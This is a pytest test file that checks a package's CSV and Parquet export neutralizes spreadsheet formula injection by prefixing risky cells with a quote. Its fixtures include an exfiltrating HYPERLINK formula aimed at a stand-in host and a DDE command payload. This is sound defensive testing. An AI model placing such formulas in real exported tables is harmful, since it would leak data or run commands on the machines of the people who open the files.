"""Tables written for people: spreadsheet formulas neutralized, CSV / Parquet by suffix."""

import io

import numpy as np
import pandas as pd
import pytest

from kmviz.km import mining
from kmviz.tabular_export import (neutralize_formulas, table_bytes, table_format,
                                  write_table)

HOSTILE = ['=HYPERLINK("http://x.example/?d="&A2,"Click")', "+1+1", "-2+3", "@SUM(A1)",
           "\tTab", "\rCR"]


def test_every_formula_lead_is_prefixed_and_plain_text_is_kept():
    df = pd.DataFrame({"name": HOSTILE + ["Coffee", "a=b"], "n": np.arange(8) - 3})
    out = neutralize_formulas(df)
    assert out["name"].tolist()[:6] == ["'" + h for h in HOSTILE]
    assert out["name"].tolist()[6:] == ["Coffee", "a=b"]
    assert out["n"].tolist() == list(range(-3, 5))        # numbers stay numbers
    assert df["name"].tolist()[0] == HOSTILE[0]           # the input is not changed


def test_csv_and_parquet_round_trip_neutralized(tmp_path):
    df = pd.DataFrame({"antecedent": ["=cmd|' /C calc'!A0", "Tea"], "lift": [1.5, -0.2]})
    back = pd.read_csv(io.BytesIO(table_bytes(df, "csv")))
    assert back["antecedent"].tolist() == ["'=cmd|' /C calc'!A0", "Tea"]
    assert back["lift"].tolist() == [1.5, -0.2]
    path = write_table(df, tmp_path / "rules.parquet")
    assert pd.read_parquet(path)["antecedent"].iloc[0].startswith("'=")
    assert not list(tmp_path.glob(".*tmp*"))


def test_the_suffix_names_the_format():
    assert table_format("a/b.CSV") == "csv" and table_format("x.parquet") == "parquet"
    with pytest.raises(ValueError, match=r"\.csv or \.parquet"):
        table_format("rules.xlsx")


def test_implications_csv_is_neutralized():
    df = pd.DataFrame({"antecedent_name": ["@evil"], "consequent_name": ["=1+1"],
                       "support": [3], "statement": ["x"]})
    text = mining.export_csv(df, "rated 4 or more")
    assert "'@evil" in text and "'=1+1" in text and ",@evil" not in text
